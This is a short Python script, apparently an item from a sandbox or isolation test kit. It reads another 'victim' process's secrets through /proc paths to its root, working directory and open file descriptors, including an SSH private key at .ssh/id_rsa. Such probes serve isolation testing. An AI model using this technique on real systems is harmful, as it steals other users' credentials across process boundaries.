"""Read a secret through another process's root, working directory and open files in /proc."""

from kit import WORLD, read_any

process = f"/proc/{WORLD['victim']}"
read_any(f"{process}/root{WORLD['ssh']}", f"{process}/cwd/.ssh/id_rsa", f"{process}/fd/3")
